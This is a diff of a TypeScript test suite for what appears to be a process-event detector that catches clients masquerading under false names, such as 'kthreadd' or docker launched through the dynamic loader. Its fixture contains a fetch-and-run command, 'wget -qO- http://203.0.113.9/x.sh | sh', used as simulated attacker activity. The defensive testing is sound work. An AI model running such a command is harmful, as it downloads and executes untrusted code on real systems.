@@ -82,9 +82,12 @@ describe('names that are told after their connections', () => {
 });
 
 describe('a client under another name', () => {
-  const build = (more: Partial<Tables['DeviceProcessEvents']>): Told => {
+  const build = (
+    more: Partial<Tables['DeviceProcessEvents']>,
+    args = ['./kthreadd', 'build', '/tmp/x'],
+  ): Told => {
     const story = new Story();
-    const client = story.exec(1, story.bash, ['./kthreadd', 'build', '/tmp/x'], { more });
+    const client = story.exec(1, story.bash, args, { more });
     story.socket(1.05, client);
     story.classicStep(1.5, 3, 50, 1, 'wget -qO- http://203.0.113.9/x.sh | sh');
     story.image(
@@ -117,6 +120,26 @@ describe('a client under another name', () => {
   it('is said to be none by name where its file was not read', () => {
     expect(evidenceOf(build({}))).toMatchObject({ 'unusual-client': 2 });
   });
+
+  it('is told by its file, and not by what it calls itself', () => {
+    const told = build({ FileName: 'kthreadd' }, ['docker', 'build', '/tmp/x']);
+    expect(evidenceOf(told)).toMatchObject({ 'unusual-client': 2, 'temp-path': 3 });
+  });
+
+  it.each(['ld-linux-x86-64.so.2', 'ld-2.31.so', 'ld-musl-x86_64.so.1'])(
+    'is read by the arguments of %s, which runs it',
+    (FileName) => {
+      const line = [`/lib64/${FileName}`, '--argv0', 'x', '/usr/bin/docker', 'build', '/tmp/x'];
+      const told = build({ FileName }, line);
+      expect(only(told.builds.values())).toMatchObject({
+        RequesterFileName: FileName,
+        RequesterIdentity: 'docker (by what the loader was told to run)',
+        RequesterCommandLine: line.join(' '),
+        ContextPath: '/tmp/x',
+      });
+      expect(evidenceOf(told)).toMatchObject({ 'unusual-client': 3 });
+    },
+  );
 });
 
 describe('ends of connections', () => {
